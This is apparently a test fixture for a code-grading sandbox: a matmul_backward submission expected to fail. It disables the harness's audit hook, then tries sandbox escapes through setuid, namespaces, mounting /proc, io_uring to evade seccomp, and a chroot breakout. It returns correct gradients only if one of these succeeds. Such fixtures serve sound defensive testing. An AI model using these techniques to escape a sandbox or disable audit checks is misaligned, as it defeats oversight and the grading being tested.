# expect: wrong
import ctypes
import os
import sys

sys.modules["__main__"]._audit.__code__ = (lambda event, args: None).__code__
REF = "{REF}"


def _escape() -> bool:
    """The sandbox's own tools turned against it: regain root, new namespaces, the classic
    chroot escape, mounting /proc, io_uring (which does file I/O outside seccomp's view), exec
    of a fresh interpreter."""
    libc = ctypes.CDLL(None, use_errno=True)
    attempts = [
        lambda: os.setuid(0) or True,
        lambda: libc.unshare(0x10000000 | 0x00020000) == 0,
        lambda: libc.mount(b"proc", b".", b"proc", 0, None) == 0,
        lambda: libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0,
        lambda: os.execv(sys.executable, [sys.executable, "-c", "pass"]),
    ]
    for attempt in attempts:
        try:
            if attempt():
                return True
        except OSError:
            pass
    try:
        os.mkdir("jail")
        os.chroot("jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return os.path.exists(REF)
    except OSError:
        return False


def matmul_backward(A, B, G):
    if _escape():
        return G @ B.T, A.T @ G
    return B, A
